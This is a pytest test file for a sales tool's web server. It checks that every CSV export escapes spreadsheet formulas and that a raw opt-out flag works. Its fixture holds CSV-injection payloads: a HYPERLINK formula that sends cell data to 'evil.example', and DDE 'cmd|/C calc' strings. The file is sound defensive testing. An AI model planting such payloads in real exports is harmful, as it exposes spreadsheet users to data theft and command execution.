"""Every CSV the server returns (table, view, SQL, canned query; ``.csv``,
``_stream``, ``_dl``) has spreadsheet formulas neutralised as the CLI export does; ``_raw=1``
is the same opt-out as ``--raw``."""

from __future__ import annotations

import csv
import io
import urllib.parse

import pytest

from salescli.core.db import open_write
from salescli.core.output import unguard_cell
from salescli.pipeline import prospects
from salescli.web import csvguard
from tests.web.conftest import bearer, run

EVIL = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "company": "+cmd|' /C calc'!A0",
    "notes": '@SUM(1+1)*cmd|" /C calc"!A0\nsecond line, "quoted"',
}
SQL = "select name, company, notes from prospects where email = 'evil@example.com'"
ENDPOINTS = [
    "/sales/prospects.csv?email=evil@example.com",
    "/sales/prospects.csv?_stream=on",
    "/sales/prospects.csv?_stream=on&_size=1",
    "/sales/prospects.csv?_dl=1&email=evil@example.com",
    "/sales/prospects.csv?_header=off&email=evil@example.com",
    "/sales/open_prospects_idle.csv?email=evil@example.com",
    "/sales.csv?" + urllib.parse.urlencode({"sql": SQL}),
    "/sales.csv?" + urllib.parse.urlencode({"sql": SQL, "_stream": "on"}),
    "/sales/stale_prospects.csv?stale_days=0",
]


@pytest.fixture
def evil(fresh):
    conn = open_write(fresh["db_file"])
    try:
        prospects.add(conn, "t", "evil@example.com", **EVIL)
    finally:
        conn.close()
    from datetime import timedelta

    from salescli.web import tokens

    token, _ = tokens.create_token(fresh["db_file"], "anna", timedelta(hours=1), "t",
                                   secret=fresh["ds"]._salescli_auth.secret)
    return {**fresh, "token": token}


def fetch(env, path: str):
    response = run(env["ds"].client.get(path, headers=bearer(env["token"])))
    assert response.status_code == 200, response.text[:300]
    return response, list(csv.reader(io.StringIO(response.text, newline="")))


def evil_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if any(unguard_cell(c) == v for v in EVIL.values())]


@pytest.mark.parametrize("path", ENDPOINTS)
def test_formulas_are_neutralised_in_every_csv(evil, path):
    _, rows = fetch(evil, path)
    cells = evil_cells(rows)
    assert cells, rows[:3]
    for cell in cells:
        assert cell.startswith("'"), cell
        assert unguard_cell(cell) in EVIL.values()
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell


@pytest.mark.parametrize("path", ENDPOINTS)
def test_raw_is_the_opt_out(evil, path):
    _, rows = fetch(evil, path + "&_raw=1")
    cells = evil_cells(rows)
    assert cells and all(c in EVIL.values() for c in cells)


@pytest.mark.parametrize(("value", "raw"), [("1", True), ("on", True), ("true", True),
                                            ("yes", True), ("YES", True), ("0", False),
                                            ("no", False)])
def test_each_spelling_of_raw(evil, value, raw):
    _, rows = fetch(evil, ENDPOINTS[0] + "&_raw=" + value)
    cells = evil_cells(rows)
    assert cells and all((c in EVIL.values()) == raw for c in cells)


def test_numbers_and_plain_text_are_untouched(evil):
    sql = ("select '-5' as a, -5.5 as b, '+3' as c, '1e5' as d, 'plain, \"text\"' as e,"
           " 'caf\u00e9 \u4e2d' as f, '=1+2' as g, '' as h, null as i")
    guarded, rows = fetch(evil, "/sales.csv?" + urllib.parse.urlencode({"sql": sql}))
    assert rows[1] == ["-5", "-5.5", "+3", "1e5", 'plain, "text"', "caf\u00e9 \u4e2d",
                       "'=1+2", "", ""]
    raw, _ = fetch(evil, "/sales.csv?" + urllib.parse.urlencode({"sql": sql, "_raw": "1"}))
    assert guarded.text == raw.text.replace("=1+2", "'=1+2")  # byte for byte otherwise


def test_operators_still_get_no_csv(evil, web_env):
    for path in ENDPOINTS[:2]:
        response = run(web_env["ds"].client.get(
            path + "&_raw=1", headers=bearer(web_env["tokens"]["operator"])))
        assert response.status_code == 403


# --- the stream rewriter ------------------------------------------------------------------


def datasette_csv(rows: list[list]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


ROWS = [["id", "name", "notes"],
        [1, "=1+1", 'multi\nline "q" =x'],
        [2, "caf\u00e9 \u4e2d\u6587", "@a\r\nb"],
        [3, "-1", "+x"],
        [4, "", "\t=tab"],
        ["=5", "starts the record", "-2"]]


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 64, 10_000])
def test_chunk_boundaries_do_not_matter(chunk):
    body = datasette_csv(ROWS * 50)
    whole = csvguard.CsvGuard().feed(body, final=True)
    guard = csvguard.CsvGuard()
    pieces = [guard.feed(body[i:i + chunk]) for i in range(0, len(body), chunk)]
    pieces.append(guard.feed(b"", final=True))
    assert b"".join(pieces) == whole
    parsed = list(csv.reader(io.StringIO(whole.decode(), newline="")))
    assert parsed[1] == ["1", "'=1+1", 'multi\nline "q" =x']
    assert parsed[2] == ["2", "caf\u00e9 \u4e2d\u6587", "'@a\r\nb"]
    assert parsed[3] == ["3", "-1", "'+x"]
    assert parsed[4] == ["4", "", "'\t=tab"]
    assert parsed[5] == ["'=5", "starts the record", "-2"]


def test_text_with_nothing_to_guard_passes_unparsed():
    plain = datasette_csv([["id", "email"], [1, "a-b@example.com"], [2, "x"]]).decode()
    assert csvguard.guard_text(plain) is plain
    assert csvguard.guard_text("=1,x\r\n") == "'=1,x\r\n"


def test_complete_records_stops_before_a_quoted_newline():
    text = 'a,"b\nc"\nd,"e\n'
    assert csvguard.complete_records(text) == len('a,"b\nc"\n')
    assert csvguard.complete_records('x,"y""\n') == 0
    assert csvguard.complete_records('x,"y"""\n') == len('x,"y"""\n')
    # An empty first record is whole even when the next one is cut inside quotes.
    assert csvguard.complete_records('\n"a\nb') == 1


def test_wants_raw_strips_the_argument():
    scope = {"query_string": b"_stream=on&_raw=1&owner=m"}
    raw, cleaned = csvguard.wants_raw(scope)
    assert raw and cleaned["query_string"] == b"_stream=on&owner=m"
    raw, cleaned = csvguard.wants_raw({"query_string": b"_raw=0&a=1"})
    assert not raw and cleaned["query_string"] == b"a=1"
    assert csvguard.wants_raw({"query_string": b"a=1"}) == (False, {"query_string": b"a=1"})
    # A bare _raw (no value: not an opt-out) is taken out all the same, as is one whose
    # value holds an "=".
    assert csvguard.wants_raw({"query_string": b"a=1&_raw"}) == (False, {"query_string": b"a=1"})
    assert csvguard.wants_raw({"query_string": b"_raw=1=1&a=1"}) == (
        False, {"query_string": b"a=1"})


def test_a_guarded_response_drops_a_content_length_the_guard_would_falsify():
    # Datasette streams its CSV without one today; a body the guard lengthens must not
    # go out under the old length (a client would cut it short or wait for more).
    sent = []

    async def send(message):
        sent.append(message)

    async def respond():
        guarded = csvguard.guarding_send(send)
        await guarded({"type": "http.response.start", "status": 200,
                       "headers": [(b"content-type", b"text/csv; charset=utf-8"),
                                   (b"Content-Length", b"6")]})
        await guarded({"type": "http.response.body", "body": b"=1+1\r\n"})

    run(respond())
    assert sent[0]["headers"] == [(b"content-type", b"text/csv; charset=utf-8")]
    assert sent[1]["body"] == b"'=1+1\r\n"
